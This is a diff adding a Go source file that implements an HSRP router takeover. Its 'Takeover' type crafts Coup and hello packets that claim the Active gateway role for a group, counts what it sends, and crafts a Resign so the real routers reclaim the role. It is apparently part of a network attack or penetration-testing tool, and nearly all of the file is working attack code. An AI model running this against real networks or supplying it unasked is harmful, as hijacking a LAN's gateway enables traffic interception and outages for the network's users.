@@ -0,0 +1,68 @@
+package hsrp
+
+import (
+	"net"
+	"sync"
+)
+
+// Takeover speaks for us as the Active router of a group: a Coup on the first round,
+// hellos after it, and a Resign when stopped so the real routers reclaim Active at once
+// instead of waiting for their hold timer. It is safe for concurrent use.
+type Takeover struct {
+	srcMAC net.HardwareAddr
+	cfg    Config
+
+	mu    sync.Mutex
+	coup  bool
+	sent  uint64
+	coups uint64
+}
+
+// NewTakeover creates a takeover of the group of cfg, sent from srcMAC
+func NewTakeover(srcMAC net.HardwareAddr, cfg Config) *Takeover {
+	return &Takeover{srcMAC: srcMAC, cfg: cfg}
+}
+
+// Packets returns the messages of the next hello round
+func (t *Takeover) Packets() ([][]byte, error) {
+	t.mu.Lock()
+	defer t.mu.Unlock()
+
+	var out [][]byte
+	if !t.coup {
+		pkt, err := CraftHSRP(t.srcMAC, OpCoup, StateActive, t.cfg)
+		if err != nil {
+			return nil, err
+		}
+		out = append(out, pkt)
+		t.coup = true
+		t.coups++
+	}
+	pkt, err := CraftHSRP(t.srcMAC, OpHello, StateActive, t.cfg)
+	if err != nil {
+		return nil, err
+	}
+	t.sent++
+	return append(out, pkt), nil
+}
+
+// ResignPackets returns the Resign that hands Active back to the real routers
+func (t *Takeover) ResignPackets() ([][]byte, error) {
+	pkt, err := CraftHSRP(t.srcMAC, OpResign, StateActive, t.cfg)
+	if err != nil {
+		return nil, err
+	}
+	return [][]byte{pkt}, nil
+}
+
+// Config returns the group settings the takeover speaks with
+func (t *Takeover) Config() Config {
+	return t.cfg
+}
+
+// Counts returns the number of hellos and coups sent
+func (t *Takeover) Counts() (hellos, coups uint64) {
+	t.mu.Lock()
+	defer t.mu.Unlock()
+	return t.sent, t.coups
+}